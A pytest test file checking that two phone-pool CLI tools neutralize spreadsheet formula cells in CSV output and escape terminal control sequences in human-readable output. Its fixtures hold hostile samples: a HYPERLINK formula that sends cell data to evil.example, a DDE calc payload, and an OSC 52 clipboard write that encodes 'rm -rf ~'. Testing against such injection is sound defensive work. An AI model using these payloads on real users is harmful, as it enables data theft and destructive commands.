"""Text a server or an input file controls, through the command lines: every CSV they write
neutralizes a cell a spreadsheet would run (``=HYPERLINK(...)`` becomes ``'=HYPERLINK(...)``)
while phone numbers stay as they are (the provisioning CSV still feeds ``bland-pools
provision``), and every human line shows control characters escaped (an OSC 8 link, a
screen clear, an OSC 52 clipboard write, a newline that would forge a plan line) while JSON
stays JSON. Hostile text comes from the emulators (seeded pool names, input keys) or, for an
error message, from a small aiohttp server on 127.0.0.1."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from _loopback import serve
from aiohttp import web

from bland_pools.testing import BlandEmulator
from ghl_pools.testing import GHLEmulator

from ._support import KEY, LOCATION, SAMPLE_POOL_ID, TOKEN, bland, error_lines, ghl, table

# The three cells, as a sub-account user can type them.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITHMETIC = "-2+3"
# Escape sequences a terminal would run.
OSC8_LINK = "\x1b]8;;http://evil.example\x1b\\Click me\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[HAll good"
OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"
FORGED = "multi\nline  delete pool 1234"


def bland_args(base_url: str, *argv: str) -> list[str]:
    return ["--api-key", KEY, "--base-url", base_url, *argv]


async def provision(base_url: str, source: Path, manifest: Path) -> int:
    return await bland(*bland_args(base_url, "provision", str(source), "--manifest", str(manifest)))


def assert_no_control_characters(text: str) -> None:
    """Nothing but printable characters and the line ends the command wrote."""
    assert all(line.isprintable() for line in text.splitlines()), text


@pytest.fixture
async def hostile_ghl() -> AsyncIterator[GHLEmulator]:
    async with GHLEmulator(tokens={TOKEN: [LOCATION]}) as emu:
        emu.add_pool(
            LOCATION,
            pool_id="pool-formula",
            name=HYPERLINK,
            numbers=[("+14155552671", CALC), ("+14155552672", ARITHMETIC)],
        )
        emu.add_pool(
            LOCATION,
            pool_id="pool-escapes",
            name=OSC8_LINK,
            numbers=[("+14155552673", CLEAR)],
            forwarding_number="+14155552674",
        )
        yield emu


def ghl_args(emu: GHLEmulator, *argv: str) -> list[str]:
    return ["--token", TOKEN, "--base-url", emu.url, *argv]


# -- CSV ----------------------------------------------------------------------------------------


async def test_export_csv_neutralizes_formula_cells_and_keeps_numbers(
    hostile_ghl: GHLEmulator, capsys: pytest.CaptureFixture[str]
) -> None:
    code = await ghl(*ghl_args(hostile_ghl, "export", "--location", LOCATION, "--format", "csv"))

    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1:3] == [
        [LOCATION, "pool-formula", "'" + HYPERLINK, "+14155552671", "'" + CALC, "true"],
        [LOCATION, "pool-formula", "'" + HYPERLINK, "+14155552672", "'" + ARITHMETIC, "true"],
    ]
    # Every cell a spreadsheet would run is neutralized.
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "@") or c.startswith("-2")]
    # Not a human line: the escape sequences are the CSV's data, quoted as they are.
    assert rows[3][2] == OSC8_LINK


async def test_export_provision_keeps_numbers_and_round_trips_into_provision(
    bland_emu: BlandEmulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    location = "-Sales"  # a location id may start with "-": the key is a formula cell
    async with GHLEmulator(tokens={TOKEN: [location]}) as emu:
        emu.add_pool(location, pool_id="p1", name=HYPERLINK, numbers=[("+14155552671", CALC)])
        emu.add_pool(location, pool_id="p2", name=ARITHMETIC, numbers=[("+14155552672", "x")])
        code = await ghl(
            *ghl_args(emu, "export", f"--location={location}", "--format", "provision")
        )
    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [
        ["pool", "phone_number"],
        ["'-Sales:p1", "+14155552671"],
        ["'-Sales:p2", "+14155552672"],
    ]
    exported = tmp_path / "pools.csv"
    exported.write_text(out, encoding="utf-8")
    manifest = tmp_path / "pools.db"

    code = await provision(bland_emu.url, exported, manifest)

    out, err = capsys.readouterr()
    assert code == 0, err
    held = sorted(tuple(p["phone_numbers"]) for p in bland_emu.pools(KEY))
    assert held == [("+14155552671",), ("+14155552672",)]
    capsys.readouterr()
    assert await bland("manifest", str(manifest), "--json") == 0
    keys = [e["key"] for e in json.loads(capsys.readouterr().out)["pools"]]
    assert sorted(keys) == ["'-Sales:p1", "'-Sales:p2"]


async def provisioned(
    emu: BlandEmulator, tmp_path: Path, capsys: pytest.CaptureFixture[str], *keys: str
) -> tuple[Path, str, str]:
    """``bland-pools provision`` of a JSON Lines file with ``keys`` (a number each, the last
    two): the manifest, and what the run printed."""
    source = tmp_path / "pools.jsonl"
    lines = [
        json.dumps({"pool": key, "phone_numbers": [f"+1312555{n:04d}"]})
        for n, key in enumerate(keys)
    ]
    lines[-1] = json.dumps({"pool": keys[-1], "phone_numbers": ["+13125559998", "+13125559999"]})
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    manifest = tmp_path / "pools.db"
    code = await provision(emu.url, source, manifest)
    out, err = capsys.readouterr()
    assert code == 0, err
    return manifest, out, err


async def test_manifest_csv_neutralizes_formula_keys(
    bland_emu: BlandEmulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest, _, _ = await provisioned(bland_emu, tmp_path, capsys, HYPERLINK, CALC, ARITHMETIC)

    code = await bland("manifest", str(manifest), "--csv")

    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(row["key"] for row in rows) == sorted(
        "'" + k for k in (HYPERLINK, CALC, ARITHMETIC)
    )
    # One number is kept as it is; two would be added up by a spreadsheet: neutralized.
    assert sorted(row["numbers"] for row in rows) == [
        "'+13125559998 +13125559999",
        "+13125550000",
        "+13125550001",
    ]


# -- human output -------------------------------------------------------------------------------


async def test_ghl_list_shows_escape_sequences_in_pool_names_escaped(
    hostile_ghl: GHLEmulator, capsys: pytest.CaptureFixture[str]
) -> None:
    code = await ghl(*ghl_args(hostile_ghl, "list", "--location", LOCATION))

    out, err = capsys.readouterr()
    assert code == 0, err
    assert_no_control_characters(out)
    assert "\\x1b]8;;http://evil.example\\x1b\\Click me\\x1b]8;;\\x1b\\" in out
    lines = out.splitlines()
    assert len(lines) == 3  # the header and one line per pool: nothing forged


async def test_ghl_list_json_stays_json(
    hostile_ghl: GHLEmulator, capsys: pytest.CaptureFixture[str]
) -> None:
    code = await ghl(*ghl_args(hostile_ghl, "--json", "list", "--location", LOCATION))

    out, err = capsys.readouterr()
    assert code == 0, err
    names = [pool["name"] for pool in json.loads(out)["pools"]]
    assert names == [HYPERLINK, OSC8_LINK]  # escaped by JSON, decoded back exactly
    assert "\x1b" not in out


async def test_a_key_with_a_newline_cannot_forge_plan_lines(
    bland_emu: BlandEmulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, out, err = await provisioned(bland_emu, tmp_path, capsys, FORGED, "plain", CLEAR)

    assert_no_control_characters(out + err)
    lines = out.splitlines()
    assert not [line for line in lines if line.startswith("line  delete")]
    creates = [line for line in lines if line.startswith("  + ")]
    assert sorted(creates) == sorted(
        [
            "  + multi\\nline  delete pool 1234  create (1 number)",
            "  + plain  create (1 number)",
            "  + \\x1b[2J\\x1b[HAll good  create (2 numbers)",
        ]
    )


async def test_the_manifest_table_and_failed_lines_show_keys_escaped(
    bland_emu: BlandEmulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "pools.jsonl"
    unknown = "0b7a4f7e-3f0a-4c55-9d1e-6c2f1b8e9a10"  # credentials the organization lacks
    source.write_text(
        json.dumps({"pool": OSC52, "phone_numbers": ["+13125550101"], "encrypted_key": unknown})
        + "\n",
        encoding="utf-8",
    )
    manifest = tmp_path / "pools.db"

    code = await provision(bland_emu.url, source, manifest)

    out, err = capsys.readouterr()
    assert code == 1
    assert_no_control_characters(out + err)
    (failed,) = [line for line in err.splitlines() if line.startswith("failed (")]
    assert failed.startswith("failed (permanent): \\x1b]52;c;cm0gLXJmIH4=\\x07: ")

    code = await bland("manifest", str(manifest))

    out, err = capsys.readouterr()
    assert code == 0, err
    assert_no_control_characters(out)
    rows = table(out)
    assert len(rows) == 2
    assert rows[1][0] == "\\x1b]52;c;cm0gLXJmIH4=\\x07"
    assert rows[1][1:3] == ["-", "failed (permanent)"]


@pytest.fixture
async def hostile_bland() -> AsyncIterator[str]:
    """A "Bland" that answers every request with an error whose message writes the clipboard
    (OSC 52), clears the screen and starts a new line."""

    async def answer(request: web.Request) -> web.Response:
        message = f"{OSC52}{CLEAR}\nbland-pools: all done"
        body = {
            "status": "error",
            "data": None,
            "errors": [{"error": "E_HOSTILE", "message": message}],  # Bland's envelope
            "message": message,  # GoHighLevel's (NestJS) error body
        }
        return web.json_response(body, status=400)

    async with serve(answer) as url:
        yield url


async def test_an_error_message_from_the_server_is_shown_escaped(
    hostile_bland: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = await bland(*bland_args(hostile_bland, "--max-retries", "0", "get", SAMPLE_POOL_ID))

    out, err = capsys.readouterr()
    assert (code, out) == (1, "")
    assert_no_control_characters(err)
    (line,) = error_lines(err, "bland-pools")
    assert line.startswith(
        "bland-pools: error: [E_HOSTILE] \\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x1b[HAll good "
        "bland-pools: all done (HTTP 400)"
    )
    assert len(err.splitlines()) == 1


async def test_an_export_error_line_is_shown_escaped(
    hostile_bland: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # A GoHighLevel answer is a NestJS body: the "message" is what the line shows.
    code = await ghl(
        *["--token", TOKEN, "--base-url", hostile_bland, "--max-retries", "0", "export"],
        *["--location", LOCATION, "--format", "json"],
        "--partial",  # the output is written although a location failed
    )

    out, err = capsys.readouterr()
    assert code == 1
    assert_no_control_characters(err)
    (line,) = error_lines(err, "ghl-pools")
    assert line.startswith(
        f"ghl-pools: error: location {LOCATION}: \\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J"
    )
    assert json.loads(out)["errors"][0]["error"].startswith(OSC52)  # JSON: escaped by JSON


@pytest.fixture
async def hostile_pool() -> AsyncIterator[str]:
    """A "Bland" whose pool has an owner id that clears the screen and draws a link."""

    async def answer(request: web.Request) -> web.Response:
        pool = {
            "id": SAMPLE_POOL_ID,
            "owner_id": CLEAR + OSC8_LINK,
            "phone_numbers": ["+14155552671"],
            "encrypted_key": None,
            "created_at": "2024-01-15T10:30:00Z",
        }
        return web.json_response({"status": "success", "data": pool, "errors": None})

    async with serve(answer) as url:
        yield url


async def test_a_shown_pool_has_its_fields_escaped(
    hostile_pool: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = await bland(*bland_args(hostile_pool, "get", SAMPLE_POOL_ID))

    out, err = capsys.readouterr()
    assert code == 0, err
    assert_no_control_characters(out)
    owner = [line for line in out.splitlines() if line.startswith("owner_id:")]
    assert owner == [
        "owner_id:      \\x1b[2J\\x1b[HAll good\\x1b]8;;http://evil.example\\x1b\\Click me"
        "\\x1b]8;;\\x1b\\"
    ]
